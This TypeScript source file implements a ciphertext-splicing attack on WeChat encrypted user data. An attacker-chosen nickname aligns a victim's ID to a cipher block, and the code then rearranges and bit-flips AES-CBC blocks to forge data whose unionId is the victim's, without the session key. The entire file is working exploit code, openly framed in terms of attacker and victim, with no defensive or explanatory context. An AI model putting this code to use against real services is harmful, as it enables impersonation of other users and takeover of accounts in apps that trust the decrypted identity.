export interface UserData {
  encryptedData: string
  iv: string
}

const block = 16

/** What takes the place of the nickname's quote: it ends the nickname, and begins a unionid. */
const bridge = '","unionId":"'

/**
 * A nickname that an attacker gives themselves at WeChat: the victim's id starts a block of the encrypted data of this user.
 *
 * @param before - the plain text up to the nickname
 */
export function nicknameFor(before: string, victim: string): string {
  // A whole block more, so that the nickname fills one before the id.
  return 'n'.repeat(block - (Buffer.byteLength(before) % block) + block) + victim
}

/**
 * The attacker's own data with the victim's id as its unionid, made without the session_key: one block that decrypts to garbage
 * in the nickname, then the block before the id a second time, which now decrypts to what the attacker wants.
 *
 * @param plain - the attacker's own data, which WeChat also shows them
 * @returns one try for each filler: the garbage must happen not to end the JSON text
 */
export function* splicedWith(
  victim: string,
  { encryptedData, iv }: UserData,
  plain: string,
): Generator<UserData> {
  const bytes = Buffer.from(encryptedData, 'base64')
  const at = Buffer.from(plain).indexOf(victim)
  if (at % block !== 0 || at < 2 * block) throw new Error('the id must start a block, behind two others')
  const [twoBefore, repeated] = [bytes.subarray(at - 2 * block, at - block), bytes.subarray(at - block, at)]
  const known = Buffer.from(plain).subarray(at - block, at)
  for (let filler = 0; filler < 500; filler += 1) {
    const wanted = Buffer.from(String(filler).padStart(block - bridge.length, 'f') + bridge)
    const changed = Buffer.from(known.map((byte, place) => byte ^ twoBefore[place]! ^ wanted[place]!))
    yield {
      encryptedData: Buffer.concat([bytes.subarray(0, at), changed, repeated, bytes.subarray(at)]).toString(
        'base64',
      ),
      iv,
    }
  }
}
